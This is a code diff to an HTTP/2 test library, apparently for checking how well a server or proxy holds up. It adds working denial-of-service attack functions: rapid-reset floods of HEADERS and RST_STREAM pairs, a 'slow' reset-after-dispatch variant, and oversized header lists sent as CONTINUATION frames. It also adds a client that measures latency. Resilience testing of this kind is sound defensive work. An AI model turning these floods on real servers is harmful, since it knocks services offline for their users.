@@ -87,6 +87,8 @@ export interface RawH2 {
   closed (boundMs: number): Promise<ConnectionOutcome>
   /** Resolves once the server sent a GOAWAY or closed, or after `boundMs`. */
   goawayOrClose (boundMs: number): Promise<ConnectionOutcome>
+  /** Resolves once `done(outcome)` holds, the connection closed, or `boundMs` passed. */
+  until (done: (outcome: ConnectionOutcome) => boolean, boundMs: number): Promise<ConnectionOutcome>
   /** After a write returned false: true once the socket drained, false if it did not within `boundMs` or closed. */
   drained (boundMs: number): Promise<boolean>
   /** Stops reading the socket (flood attacks that never read their ACKs). */
@@ -131,8 +133,8 @@ export function openRawH2 (target: H2Target): Promise<RawH2> {
         const payload = buf.subarray(9, 9 + len)
         buf = buf.subarray(9 + len)
         if (type === FRAME.SETTINGS && (flags & FLAG.ACK) === 0 && socket.writable) socket.write(frame(FRAME.SETTINGS, FLAG.ACK, 0))
-        else if (type === FRAME.HEADERS) outcome.responses.push(stream)
-        else if (type === FRAME.RST_STREAM) { const code = payload.readUInt32BE(0); outcome.resets[code] = (outcome.resets[code] ?? 0) + 1 }
+        else if (type === FRAME.HEADERS) { outcome.responses.push(stream); notify() }
+        else if (type === FRAME.RST_STREAM) { const code = payload.readUInt32BE(0); outcome.resets[code] = (outcome.resets[code] ?? 0) + 1; notify() }
         else if (type === FRAME.GOAWAY && outcome.goaway === undefined) {
           outcome.goaway = { lastStreamId: payload.readUInt32BE(0) & 0x7fffffff, errorCode: payload.readUInt32BE(4), atMs: Date.now() - t0 }
           notify()
@@ -163,6 +165,7 @@ export function openRawH2 (target: H2Target): Promise<RawH2> {
         }),
         closed: (boundMs) => wait(boundMs, () => isClosed),
         goawayOrClose: (boundMs) => wait(boundMs, () => isClosed || outcome.goaway !== undefined),
+        until: (done, boundMs) => wait(boundMs, () => isClosed || done(outcome)),
         pauseReading: () => { socket.pause() },
         resumeReading: () => { socket.resume() },
         destroy: () => { socket.destroy() }
@@ -177,24 +180,73 @@ export function openRawH2 (target: H2Target): Promise<RawH2> {
  * connection, written in batches back to back. Resolves once the server closed
  * the connection or `boundMs` passed.
  */
-export async function rapidReset (target: H2Target, options: { streams: number, path?: string, batch?: number, boundMs?: number }): Promise<ConnectionOutcome & { sent: number }> {
+export async function rapidReset (target: H2Target, options: { streams: number, path?: string, batch?: number, boundMs?: number, abandon?: boolean }): Promise<ConnectionOutcome & { sent: number, release: () => void }> {
   const conn = await openRawH2(target)
+  const sent = await sendResetPairs(conn, target, { firstId: 1, streams: options.streams, path: options.path, batch: options.batch })
+  // `abandon`: move on at the GOAWAY and leave the connection open, as an attacker opening
+  // the next one would; `release` closes it (teardown). Else wait for the server to close it.
+  const outcome = { ...await (options.abandon === true ? conn.goawayOrClose(options.boundMs ?? 10_000) : conn.closed(options.boundMs ?? 10_000)) }
+  if (options.abandon !== true) conn.destroy()
+  return { ...outcome, sent, release: () => { conn.destroy() } }
+}
+
+/** Writes HEADERS+RST_STREAM(CANCEL) pairs from stream `firstId` on; resolves with how many were written. */
+export async function sendResetPairs (conn: RawH2, target: H2Target, options: { firstId: number, streams: number, path?: string, batch?: number }): Promise<number> {
   const batch = options.batch ?? 100
-  let id = 1
-  let sent = 0
-  const rst = Buffer.alloc(4)
-  rst.writeUInt32BE(H2_ERROR.CANCEL)
   const block = requestBlock(target.servername, options.path ?? '/rapid-reset')
+  let id = options.firstId
+  let sent = 0
   while (sent < options.streams && conn.outcome.closedAtMs === undefined) {
     const frames: Buffer[] = []
     for (let i = 0; i < batch && sent < options.streams; i++, sent++, id += 2) {
-      frames.push(frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, id, block), frame(FRAME.RST_STREAM, 0, id, rst))
+      frames.push(frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, id, block), resetFrame(id))
     }
     if (!conn.write(Buffer.concat(frames)) && !await conn.drained(2000)) break
   }
-  const outcome = { ...await conn.closed(options.boundMs ?? 10_000) }
+  return sent
+}
+
+/**
+ * "Slow" rapid reset: HEADERS for `batch` streams, then, once `dispatched()` says they
+ * reached the VM (or `waitMs` passed), their RST_STREAMs; repeated up to `streams`.
+ * Each reset then cancels a request already forwarded, which only a reset budget stops.
+ */
+export async function resetAfterDispatch (target: H2Target, options: { streams: number, batch?: number, waitMs?: number, dispatched?: () => number, path?: string, boundMs?: number }): Promise<ConnectionOutcome & { sent: number }> {
+  const conn = await openRawH2(target)
+  const batch = options.batch ?? 50
+  const block = requestBlock(target.servername, options.path ?? '/reset-after-dispatch')
+  let id = 1
+  let sent = 0
+  while (sent < options.streams && conn.outcome.closedAtMs === undefined && conn.outcome.goaway === undefined) {
+    const ids: number[] = []
+    for (let i = 0; i < batch && sent < options.streams; i++, sent++, id += 2) ids.push(id)
+    const before = options.dispatched?.() ?? 0
+    conn.write(Buffer.concat(ids.map((s) => frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, s, block))))
+    const deadline = Date.now() + (options.waitMs ?? 200)
+    while (Date.now() < deadline && (options.dispatched === undefined || options.dispatched() - before < ids.length) && conn.outcome.goaway === undefined) {
+      await new Promise((resolve) => setTimeout(resolve, 5))
+    }
+    conn.write(Buffer.concat(ids.map(resetFrame)))
+  }
+  const outcome = { ...await conn.goawayOrClose(options.boundMs ?? 5000) }
   conn.destroy()
   return { ...outcome, sent }
+}
+
+/** RST_STREAM(CANCEL), as a browser sends when it abandons a request. */
+export function resetFrame (id: number): Buffer {
+  const code = Buffer.alloc(4)
+  code.writeUInt32BE(H2_ERROR.CANCEL)
+  return frame(FRAME.RST_STREAM, 0, id, code)
+}
+
+/** Sends one GET on stream `id` and resolves once its response HEADERS (or a reset of it) arrived. */
+export async function rawGet (conn: RawH2, target: H2Target, id: number, path: string, boundMs = 5000): Promise<'response' | 'reset' | 'none'> {
+  const resetsBefore = Object.values(conn.outcome.resets).reduce((a, b) => a + b, 0)
+  conn.write(frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, id, requestBlock(target.servername, path)))
+  const resets = (o: ConnectionOutcome): number => Object.values(o.resets).reduce((a, b) => a + b, 0)
+  const outcome = await conn.until((o) => o.responses.includes(id) || resets(o) > resetsBefore, boundMs)
+  return outcome.responses.includes(id) ? 'response' : resets(outcome) > resetsBefore ? 'reset' : 'none'
 }
 
 /**
@@ -258,10 +310,37 @@ export async function hpackBomb (target: H2Target, options: { refs: number, valu
   return outcome
 }
 
-/** Latencies (ms) of sequential GETs by a well-behaved HTTP/2 client, until `until` settles. */
-export async function normalClient (target: H2Target, path: string, until: Promise<unknown>): Promise<{ latencies: number[], failures: number }> {
+/**
+ * A huge header list in one HEADERS frame: `headers` fields of `valueBytes` each (past the
+ * listener's header count or size limits). Resolves with what became of the stream.
+ */
+export async function hugeHeaderList (target: H2Target, options: { headers: number, valueBytes: number, boundMs?: number }): Promise<ConnectionOutcome & { stream: 'response' | 'reset' | 'none' }> {
+  const conn = await openRawH2(target)
+  const fields = Array.from({ length: options.headers }, (_, i) => literalHeader(`x-h${i}`, 'h'.repeat(options.valueBytes)))
+  const block = Buffer.concat([requestBlock(target.servername, '/huge-headers'), ...fields])
+  // Split into frames of at most 16 KiB (the default SETTINGS_MAX_FRAME_SIZE).
+  const frames: Buffer[] = []
+  for (let off = 0; off < block.length || off === 0; off += 16384) {
+    const part = block.subarray(off, off + 16384)
+    const last = off + 16384 >= block.length
+    frames.push(frame(off === 0 ? FRAME.HEADERS : FRAME.CONTINUATION, (last ? FLAG.END_HEADERS : 0) | (off === 0 ? FLAG.END_STREAM : 0), 1, part))
+  }
+  conn.write(Buffer.concat(frames))
+  const outcome = { ...await conn.until((o) => o.responses.includes(1) || Object.keys(o.resets).length > 0 || o.goaway !== undefined, options.boundMs ?? 3000) }
+  conn.destroy()
+  const stream = outcome.responses.includes(1) ? 'response' : Object.keys(outcome.resets).length > 0 || outcome.goaway !== undefined ? 'reset' : 'none'
+  return { ...outcome, stream }
+}
+
+/**
+ * Latencies (ms) of sequential GETs by a well-behaved HTTP/2 client on its own connection,
+ * until `until` settles, `requests` were made, or `deadlineMs` passed (whichever first).
+ * A request slower than `timeoutMs` is cancelled and counted as a failure.
+ */
+export async function normalClient (target: H2Target, path: string, options: { until?: Promise<unknown>, requests?: number, deadlineMs?: number, timeoutMs?: number }): Promise<{ latencies: number[], failures: number }> {
   let done = false
-  void until.finally(() => { done = true })
+  void options.until?.finally(() => { done = true })
+  const deadline = Date.now() + (options.deadlineMs ?? 60_000)
   const session = http2.connect(`https://${target.host ?? '127.0.0.1'}:${target.port}`, { servername: target.servername, rejectUnauthorized: false })
   session.on('error', () => {})
   const latencies: number[] = []
@@ -271,6 +350,8 @@ export async function normalClient (target: H2Target, path: string, until: Promi
       const start = performance.now()
       const status = await new Promise<number>((resolve) => {
         const stream = session.request({ ':path': path, ':authority': target.servername })
+        // A request that takes longer counts as failed, so an attack that stalls the VM ends in bounded time.
+        stream.setTimeout(options.timeoutMs ?? 5000, () => { stream.close(http2.constants.NGHTTP2_CANCEL) })
         let code = 0
         stream.on('response', (h) => { code = Number(h[':status']) })
         stream.on('error', () => { resolve(0) })
@@ -279,7 +360,7 @@ export async function normalClient (target: H2Target, path: string, until: Promi
       })
       latencies.push(performance.now() - start)
       if (status !== 200) failures++
-    } while (!done)
+    } while (!done && latencies.length < (options.requests ?? Infinity) && Date.now() < deadline)
   } finally {
     session.destroy()
   }
